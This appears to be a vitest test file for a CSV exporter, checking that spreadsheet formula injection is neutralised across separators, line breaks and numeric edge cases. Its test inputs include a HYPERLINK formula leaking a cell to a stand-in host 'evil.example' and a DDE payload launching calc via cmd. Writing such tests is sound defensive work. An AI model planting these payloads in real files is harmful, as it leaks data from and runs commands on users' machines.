import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField, writeCsv } from '../../../main/export/csv.js';
import { neutralizeFormula } from '../../../shared/csv-formula.js';
import type { CrossTable } from '../../../shared/tables.js';
import { countsTable, expectedCounts, expectedQuotes, sampleTable } from './sample-table.js';

function readCsv(buffer: Buffer): string[][] {
  return parse(buffer.toString('utf8'), { bom: true, record_delimiter: '\r\n' }) as string[][];
}

/**
 * Fields as a spreadsheet cuts a CSV with another separator than the writer's: leniently, as
 * LibreOffice does. A quote opens a quoted field only at the start of a field; after its closing
 * quote the text runs on to the next separator; line breaks end a record outside quotes.
 */
function readLeniently(buffer: Buffer, separator: string): string[] {
  const text = buffer.toString('utf8').replace(/^\uFEFF/, '');
  const fields: string[] = [];
  let field = '';
  let quoted = false;
  let atStart = true;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === separator || ch === '\r' || ch === '\n') {
      if (ch === '\r' && text[i + 1] === '\n') i++;
      fields.push(field);
      field = '';
      atStart = true;
      continue;
    } else if (ch === '"' && atStart) quoted = true;
    else field += ch;
    atStart = false;
  }
  return fields;
}

/** Text that starts a formula only once a reader splits it at some separator or line break. */
const attacks = [
  ';=1+1',
  ',=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '\t=1+1',
  'Мы решили\n=1+1',
  'да\r\n-2+3',
  'a|@SUM(A1)',
  'итого =1+1',
  'x;"=1+1"',
];

/** A table whose row labels, column label and quotes all carry the attacks. */
const attackTable: CrossTable = {
  ...sampleTable,
  tagCases: false,
  rowHeader: ';=cmd|" /C calc"!A0',
  columns: [{ key: 'quote', label: '|=1+1' }],
  rows: attacks.map((label, i) => ({ key: `case:${i}`, label, role: 'data' as const })),
  cells: attacks.map((quote, i) => [
    { row: `case:${i}`, column: 'quote', count: 1, segments: [{ id: i, caseName: 'К', documentId: 1, start: 0, end: 1, quote }] },
  ]),
};

describe('CSV export', () => {
  it('starts with a UTF-8 BOM and ends every record with CRLF', () => {
    const buffer = writeCsv(sampleTable);
    expect([...buffer.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = buffer.toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    // Outside quoted fields every line break is CRLF; a bare LF only occurs inside a cell.
    expect(text.split('\r\n')).toHaveLength(sampleTable.rows.length + 2);
  });

  it('writes the header, heading rows padded with blanks, and every cell, quotes neutralised', () => {
    const records = readCsv(writeCsv(sampleTable));
    expect(records[0]).toEqual(['Случай', 'Позитивные', 'Негативные', 'Нейтральные, прочие']);
    const body = records.slice(1);
    expect(body.map((record) => record[0])).toEqual(sampleTable.rows.map((row) => row.label));
    expect(body.map((record) => record.slice(1))).toEqual(expectedQuotes.map((row) => row.map(neutralizeFormula)));
  });

  it('never lets a cell start with a formula character', () => {
    const records = readCsv(writeCsv(sampleTable));
    expect(records[2]![1]).toBe("'=1+1 это не формула (П1)\n\nХороший интернет, \"быстрый\" | везде (П1)");
    expect(records[2]![2]!.startsWith("'- Аренда")).toBe(true);
    expect(records[3]![1]!.startsWith("'+7")).toBe(true);
    for (const field of records.flat()) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('writes counts as plain numbers', () => {
    const records = readCsv(writeCsv(countsTable));
    const expected = expectedCounts.map((counts, r) =>
      countsTable.rows[r]!.role === 'heading' ? counts.map(() => '') : counts.map(String),
    );
    expect(records.slice(1).map((record) => record.slice(1))).toEqual(expected);
  });

  // Not a space, which LibreOffice offers too: neutralising there changed every quote's « - » (review-hostile-1207 #21).
  it.each([',', ';', '\t', '|'])('gives no field starting a formula when read with %j as the separator', (separator) => {
    for (const table of [attackTable, sampleTable]) {
      const fields = readLeniently(writeCsv(table), separator);
      expect(fields.length).toBeGreaterThan(table.rows.length);
      for (const field of fields) expect(field).not.toMatch(/^[=+\-@\t\r]/);
    }
  });

  it('keeps a neutralised cell readable: a quote in front of each formula, the text otherwise unchanged', () => {
    const records = readCsv(writeCsv(attackTable));
    expect(records[0]).toEqual([";'=cmd|\" /C calc\"!A0", "|'=1+1"]);
    expect(records.slice(1).map((record) => record[1])).toEqual([
      ";'=1+1",
      ",'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")",
      "'\t'=1+1",
      "Мы решили\n'=1+1",
      "да\n'-2+3",
      "a|'@SUM(A1)",
      "итого =1+1",
      "x;'\"=1+1\"",
    ]);
  });
});

describe('csvField', () => {
  // A spreadsheet reads each as the number it is (an agreement figure, a share): a quote in front made «'-0.133» text.
  it.each(['42', '-0.133', '54.4%', '-1'])('writes the number %j as it is', (text) => {
    expect(csvField(text)).toBe(text);
  });

  it.each([['-2+3', "'-2+3"], ['-0.1;=1', "'-0.1;'=1"], ['-1e5', "'-1e5"], ['-.5', "'-.5"]])('neutralises %j, which is more than a number', (text, safe) => {
    expect(csvField(text)).toBe(safe);
  });
});

describe('neutralizeFormula', () => {
  it.each(['=1+1', '+7', '-5', '@SUM(A1)', '\tx', '\rx'])('prefixes %j with a quote', (text) => {
    expect(neutralizeFormula(text)).toBe(`'${text}`);
  });

  it.each([
    [';=1+1', ";'=1+1"],
    ['\t=1', "'\t'=1"],
    ['a\n=1', "a\n'=1"],
    ['a\r\n+1', "a\r\n'+1"],
    ['a|@x', "a|'@x"],
    ['x,"=1"', "x,'\"=1\""],
    ['=1;=2', "'=1;'=2"],
  ])('puts a quote in front of a formula after a separator: %j', (text, safe) => {
    expect(neutralizeFormula(text)).toBe(safe);
  });

  // Nor after a space: a quote keeps its dashes and signs as spoken (review-hostile-1207 #21).
  it.each(['', 'text', '1+1', 'П=1', "'=1", 'e-mail', 'a-b', 'x;y', 'Смех :-)', 'Wages - low; taxes + fees = problems. Mail me @ home.', 'Программисты (n = 2): кейсы'])('leaves %j alone', (text) => {
    expect(neutralizeFormula(text)).toBe(text);
  });
});
